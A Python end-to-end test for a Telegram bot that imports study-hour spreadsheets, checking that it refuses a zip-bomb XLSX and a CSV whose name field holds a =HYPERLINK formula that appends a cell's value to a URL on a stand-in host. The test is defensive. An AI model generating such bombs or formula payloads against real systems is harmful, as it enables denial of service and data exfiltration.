"""Hostile files sent to the bot over HTTP (issue 17 items 1, 5, 7): the real application
(polling) against the fake Bot API. An organiser sends a zip bomb as a Telegram document, then
a file with a formula for a name and an unregistered unit, then the corrected file: the first
two are answered with their reasons and nothing to confirm, and nothing is written; the last
is imported. On SQLite and PostgreSQL."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from bot.fake_api import FakeBotApi
from cebot.settings import Settings
from core.uscc import make_unit_code
from services.context import AppContext
from storage.models import HourRecord, ImportBatch
from tests.e2e.running import polling, said, tap
from tests.e2e.test_hours_story_e2e import HEADER, NEWCOMER, ORGANISER, staff

UNKNOWN_UNIT = make_unit_code("12450000MB0000777")


def zip_bomb() -> bytes:
    """An XLSX of about 100 KB that inflates to about 100 MB of rows."""
    template = io.BytesIO()
    book = Workbook()
    assert book.active is not None
    book.active.append(["身份证号"])
    book.save(template)
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>450103199001010011</t></is></c></row>'
    with (
        zipfile.ZipFile(template) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(item.filename, src.read(item.filename))
                continue
            with dst.open(item.filename, "w") as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml')
                sheet.write(b'/2006/main"><sheetData>')
                for _ in range(100):
                    sheet.write(row * 16_000)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


async def counts(ctx: AppContext) -> tuple[int, int]:
    async with ctx.db.transaction() as s:
        records = await s.scalar(select(func.count()).select_from(HourRecord))
        batches = await s.scalar(select(func.count()).select_from(ImportBatch))
    return int(records or 0), int(batches or 0)


async def test_hostile_files_over_http(
    ctx: AppContext,
    roster: int,
    fake_api: FakeBotApi,
    settings: Settings,
    zhang_id: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CEBOT_IMPORT_MAX_ROWS", "1000")  # inflated-size limit: 16 MB
    api = fake_api
    await staff(ctx, roster)
    before = await counts(ctx)
    async with polling(settings, ctx) as _application:
        bomb = zip_bomb()
        assert len(bomb) < 512 * 1024
        mark = api.mark()
        api.send_text(ORGANISER, "/upload")
        await said(api, ORGANISER, "请发送学时文件", mark)
        mark = api.mark()
        started = time.perf_counter()
        api.send_file(ORGANISER, bomb, filename="学时.xlsx", mime_type="application/zip")
        refused = await said(api, ORGANISER, "解压后有", mark, timeout=30)
        assert "超过上限 16 MB" in refused and time.perf_counter() - started < 30
        replies = [c for c in list(api.calls)[mark:] if c.params.get("chat_id") == ORGANISER]
        assert not any(FakeBotApi._button_in(c, "确认导入") for c in replies)

        bad = (
            HEADER.rstrip("\n")
            + ",单位代码\n"
            + f'{NEWCOMER},"=HYPERLINK(""http://x/?""&A1,""点此"")",2024,专业科目,YX-1,'
            + f"心电图判读,4,2024-09-20,{UNKNOWN_UNIT}\n"
        ).encode()
        mark = api.mark()
        api.send_file(ORGANISER, bad, filename="有误.csv", mime_type="text/csv")
        listed = await said(api, ORGANISER, "行有误", mark, timeout=30)
        assert "第 2 行：name 不能以 = + - @ 开头" in listed
        replies = [c for c in list(api.calls)[mark:] if c.params.get("chat_id") == ORGANISER]
        assert not any(FakeBotApi._button_in(c, "确认导入") for c in replies)
        assert await counts(ctx) == before

        unknown = (
            HEADER.rstrip("\n")
            + ",单位代码\n"
            + f"{NEWCOMER},韦新,2024,专业科目,YX-1,心电图判读,4,2024-09-20,{UNKNOWN_UNIT}\n"
        ).encode()
        mark = api.mark()
        api.send_file(ORGANISER, unknown, filename="单位.csv", mime_type="text/csv")
        listed = await said(api, ORGANISER, "行有误", mark, timeout=30)
        assert f"第 2 行：单位代码 {UNKNOWN_UNIT} 未登记" in listed
        assert await counts(ctx) == before

        good = (HEADER + f"{NEWCOMER},韦新,2024,专业科目,YX-1,心电图判读,4,2024-09-20\n").encode()
        mark = api.mark()
        api.send_file(ORGANISER, good, filename="学时.csv", mime_type="text/csv")
        await said(api, ORGANISER, "预览", mark, timeout=30)
        await tap(api, ORGANISER, "确认导入", "已导入")
    assert await counts(ctx) == (before[0] + 1, before[1] + 1)
